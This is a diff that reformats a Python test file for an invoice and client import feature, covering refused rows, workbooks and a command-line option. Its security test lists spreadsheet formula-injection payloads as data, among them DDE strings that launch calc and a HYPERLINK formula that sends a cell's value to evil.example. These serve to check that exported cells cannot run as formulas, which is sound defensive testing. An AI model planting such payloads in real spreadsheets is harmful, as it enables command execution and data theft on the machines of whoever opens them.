@@ -23,9 +23,11 @@ from tests.services.imports.test_command import command
 from tests.services.imports.test_tables import workbook
 
 GOOD = Options(take_good=True)
-LINES = ("number;client;issued_on;description;quantity;unit_price;tax_rate\n"
-         "A-1;Acme Ltd;2030-01-01;Work;1;100,00;24\nA-2;Acme Ltd;2030-01-02;Work;1;50,00;24\n"
-         "A-2;Acme Ltd;2030-01-02;More;zwei;10,00;24\nA-3;Nobody at all;2030-01-03;Work;1;1,00;0\n")
+LINES = (
+    "number;client;issued_on;description;quantity;unit_price;tax_rate\n"
+    "A-1;Acme Ltd;2030-01-01;Work;1;100,00;24\nA-2;Acme Ltd;2030-01-02;Work;1;50,00;24\n"
+    "A-2;Acme Ltd;2030-01-02;More;zwei;10,00;24\nA-3;Nobody at all;2030-01-03;Work;1;1,00;0\n"
+)
 
 
 def numbers(house) -> list[str]:
@@ -38,7 +40,7 @@ def test_it_is_a_choice_and_off_by_default(sqlite_house):
     assert set(results(report)) == {"refused"}
     assert counts(sqlite_house, Invoice) == [0]
     assert report.handed_back is not None
-    assert report.handed_back.rows == 3                                     # the good row is not among them
+    assert report.handed_back.rows == 3  # the good row is not among them
 
 
 def test_a_bad_line_holds_back_its_document_and_the_mended_file_comes_in_once(house):
@@ -73,8 +75,11 @@ def test_a_file_handed_back_twice_has_one_reason_column(sqlite_house):
 
 
 def test_a_workbook_comes_back_as_a_workbook_with_its_kinds_of_cells(sqlite_house):
-    made = workbook(["external_id", "number", "client", "issued_on", "net", "tax"],
-                    ["=1+1", "A-1", "Nobody at all", date(2030, 1, 1), 100.5, 0], ["X2", "A-2", "Acme Ltd", date(2030, 1, 1), 1, 0])
+    made = workbook(
+        ["external_id", "number", "client", "issued_on", "net", "tax"],
+        ["=1+1", "A-1", "Nobody at all", date(2030, 1, 1), 100.5, 0],
+        ["X2", "A-2", "Acme Ltd", date(2030, 1, 1), 1, 0],
+    )
     book = openpyxl.load_workbook(io.BytesIO(made))
     book.active["A2"].value, book.active["A2"].data_type = "=1+1", "s"
     book.save(out := io.BytesIO())
@@ -99,13 +104,29 @@ def test_the_command_line_takes_good_rows_and_writes_the_others(sqlite_house, tm
     assert command(sqlite_house, "clients", str(path), "--take-good", "--rejects", str(rejects)) == 1
     assert counts(sqlite_house, Entity) == [before[0] + 1]
     assert "1 refused rows are in" in capsys.readouterr().err
-    assert rejects.read_text("utf-8-sig").splitlines() == ["Code,Name,Why it was refused", "C2,,Name: This is required."]
+    assert rejects.read_text("utf-8-sig").splitlines() == [
+        "Code,Name,Why it was refused",
+        "C2,,Name: This is required.",
+    ]
 
 
 @pytest.mark.security("R70")
-@pytest.mark.parametrize("text", [
-    "=1+1", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+1-1+cmd", "-A1", "+A1",
-    "=HYPERLINK(\"https://evil.example?\"&A1)", "-", "+", "@x"])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "=1+1",
+        "=cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "+1-1+cmd",
+        "-A1",
+        "+A1",
+        '=HYPERLINK("https://evil.example?"&A1)',
+        "-",
+        "+",
+        "@x",
+    ],
+)
 @pytest.mark.parametrize("shape", ["{}", "'{}"])
 def test_what_is_handed_back_runs_in_no_spreadsheet(text: str, shape: str) -> None:
     """A guarded cell is read without its guard: handed back without, it would be a formula that it was not before."""
